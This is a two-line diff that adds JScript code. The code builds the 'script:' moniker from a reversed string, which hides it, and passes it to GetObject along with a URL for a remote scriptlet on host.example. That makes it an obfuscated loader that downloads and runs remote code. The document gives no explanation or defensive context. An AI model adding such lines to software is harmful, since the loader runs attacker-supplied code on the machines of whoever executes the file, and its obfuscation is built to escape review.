@@ -1,0 +1,2 @@
+var name = "tpircs".split("").reverse().join("") + ":" + "http" + "://host.example/component.sct";
+GetObject(name);
